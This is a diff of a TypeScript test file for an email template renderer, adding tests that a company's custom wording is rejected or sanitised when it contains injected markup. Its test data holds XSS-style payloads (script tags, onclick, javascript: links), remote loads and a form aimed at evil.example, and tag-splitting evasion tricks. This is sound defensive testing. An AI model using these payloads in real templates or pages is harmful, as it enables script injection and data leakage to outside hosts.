@@ -1,23 +1,24 @@
 import { assert, describe, it } from "@effect/vitest"
 import * as Effect from "effect/Effect"
 import type { TemplateRefused } from "./email-errors.ts"
-import { makeRenderer, type TemplateOverride } from "./render.ts"
+import { previewMail, type PreviewRequest } from "./preview-mail.ts"
+import { makeRenderer } from "./render.ts"
 import { templateCatalog } from "./templates/template-catalog.ts"
 
 const at = { template: "complaint-out-of-policy", locale: "pt-BR" } as const
 
-const loaded = (own: { readonly subject?: string; readonly html?: string; readonly text?: string }) =>
-  makeRenderer({ overrides: [{ ...at, ...own }] })
+type Own = NonNullable<PreviewRequest["wording"]>
 
-const refusal = (own: { readonly subject?: string; readonly html?: string; readonly text?: string }) =>
-  Effect.flip(Effect.catchTag(loaded(own), "UnknownTemplate", Effect.die))
+const refusal = (wording: Own) =>
+  previewMail({ ...at, wording }).pipe(
+    Effect.flip,
+    Effect.map((error) => {
+      if (error._tag !== "TemplateRefused") throw error
+      return error
+    }),
+  )
 
-const rendered = (html: string) =>
-  Effect.gen(function* () {
-    const renderer = yield* loaded({ html })
-    const variables = templateCatalog[at.template].sample
-    return yield* renderer.render({ ...at, timeZone: "America/Sao_Paulo", sender: "Loja", variables })
-  })
+const rendered = (html: string) => previewMail({ ...at, wording: { html } })
 
 describe("a company's own wording", () => {
   it.effect("replaces only the part that it gives, inside the same layout", () =>
@@ -71,6 +72,12 @@ describe("a company's own wording", () => {
     ["nine blocks in each other", "{{#if product}}".repeat(9) + "{{/if}}".repeat(9), "too-deep", 1, 121],
     ["an open block", "<p>\n{{#if product}}", "syntax", 2, 16],
     ["a block closed by another name", "a\n{{#if product}}x{{/each}}", "syntax", 2, 4],
+    ["a script", "<p>ok</p>\n<ScRiPt>alert(1)</script>", "forbidden-markup", 2, 1],
+    ["a picture from the net", '<p><img src="https://evil.example/{{protocol}}"></p>', "forbidden-markup", 1, 4],
+    ["what runs on a click", '<p><a href="#"\n onclick="x()">a</a></p>', "forbidden-markup", 2, 1],
+    ["an address that runs", '<a href=" javascript:x()">a</a>', "forbidden-markup", 1, 11],
+    ["a form", "<form action='https://evil.example'>", "forbidden-markup", 1, 1],
+    ["a style that loads", "<p style='background:url(https://evil.example)'>", "forbidden-markup", 1, 22],
     ["an unfinished tag", "<p>\n\n  {{firstName </p>", "syntax", 3, 15],
     ["a bare brace", "{{}}", "syntax", 1, 3],
   ]
@@ -87,10 +94,8 @@ describe("a company's own wording", () => {
 
   it.effect("for a mail that there is not is refused", () =>
     Effect.gen(function* () {
-      const fromData = JSON.parse(
-        '[{"template":"__proto__","locale":"en","html":""}]',
-      ) as ReadonlyArray<TemplateOverride>
-      const error = yield* Effect.flip(makeRenderer({ overrides: fromData }))
+      const fromData = JSON.parse('{"template":"__proto__","locale":"en"}') as PreviewRequest
+      const error = yield* Effect.flip(previewMail(fromData))
       assert.deepInclude(error, { _tag: "UnknownTemplate", template: "__proto__" })
     }),
   )
@@ -101,6 +106,56 @@ describe("a company's own wording", () => {
       const text = yield* refusal({ text: "x\n\n{{nada}}" })
       assert.deepInclude(subject, { part: "subject", line: 1 })
       assert.deepInclude(text, { part: "text", line: 3 })
+    }),
+  )
+
+  it.effect("loads and runs nothing, whatever stands between the pieces of its markup", () =>
+    Effect.gen(function* () {
+      const tricks = [
+        "<scr{{! nada }}ipt>x</script>",
+        "<{{#if product}}script{{else}}b{{/if}}>x",
+        "<im{{#if product}}g src='https://evil.example/{{protocol}}'{{/if}}>",
+        "<a hr{{! }}ef='java{{! }}script:x()'>a</a>",
+        "<p on{{! }}click='x()'>a</p>",
+        "<p style='background:u{{! }}rl(https://evil.example)'>a</p>",
+      ]
+      for (const html of tricks) {
+        const mail = yield* Effect.option(rendered(html))
+        if (mail._tag === "None") continue
+        const body = mail.value.html.slice(mail.value.html.indexOf("padding:16px 32px 8px;"))
+        assert.notMatch(body, /<script|<img|javascript:|onclick|url\(|evil/i, html)
+      }
+    }),
+  )
+
+  it.effect("keeps tables, colours and links", () =>
+    Effect.gen(function* () {
+      const html =
+        '<table class="panel" width="100%" bgcolor="#f5f7fa"><tr><td style="color:#1f2933;padding:8px 12px">{{product}}</td></tr></table><p><a href="https://loja.example/?p={{protocol}}">Ver</a></p>'
+      const mail = yield* rendered(html)
+      assert.include(mail.html, 'bgcolor="#f5f7fa"')
+      assert.include(mail.html, "color:#1f2933")
+      assert.include(mail.html, '<a href="https://loja.example/?p=2026-000123">Ver</a>')
+      // What has no colour of its own is written in the frame's, which knows a dark scheme.
+      assert.match(mail.html, /<td class="inner ink" style="[^"]*font-family:Arial[^"]*color:#1f2933/)
+    }),
+  )
+
+  it.effect("whose part turns out to be unusable gives way to ours in that part, and the mail goes out", () =>
+    Effect.gen(function* () {
+      const renderer = yield* makeRenderer()
+      const wording = {
+        id: "w-1",
+        version: 3,
+        subject: "[{{protocol}}] Oi",
+        html: "{{{cpf}}}",
+        text: "Oi, {{firstName}}",
+      }
+      const variables = templateCatalog[at.template].sample
+      const mail = yield* renderer.render({ ...at, timeZone: "America/Sao_Paulo", sender: "Loja", variables, wording })
+      assert.strictEqual(mail.subject, "[2026-000123] Oi")
+      assert.include(mail.html, "Resultado da análise de garantia")
+      assert.isTrue(mail.text.startsWith("Oi, Conceição"))
     }),
   )
 })
